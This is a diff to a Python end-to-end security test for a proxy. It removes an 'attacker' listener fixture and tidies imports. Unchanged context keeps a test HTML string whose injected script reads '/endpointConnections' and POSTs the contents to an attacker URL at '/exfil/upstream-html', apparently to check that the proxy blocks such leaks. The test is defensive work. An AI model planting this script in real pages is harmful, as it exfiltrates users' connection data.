@@ -9,7 +9,6 @@ and no stored id reached the listener, no request reached the real upstream, and
 from __future__ import annotations
 
 import json
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
@@ -18,8 +17,7 @@ import httpx
 import pytest
 
 from tests.conftest import RunningProxy, chat_connection
-from tests.servers import serve_in_thread
-from tests.test_inspector import launch
+from tests.helpers import launch
 from tests.upstream import Reply, Upstream
 
 pytestmark = pytest.mark.e2e
@@ -90,13 +88,6 @@ UPSTREAM_HTML = """<!doctype html><html><body>upstream page<script>
 fetch("/endpointConnections").then(r => r.text())
   .then(t => fetch(%(attacker)s + "/exfil/upstream-html", {method: "POST", mode: "no-cors", body: t}));
 </script></body></html>"""
-
-
-@pytest.fixture
-def attacker() -> Iterator[tuple[Upstream, str]]:
-    listener = Upstream()
-    with serve_in_thread(listener.app) as url:
-        yield listener, url
 
 
 def server_state(client: httpx.Client) -> dict[str, Any]:
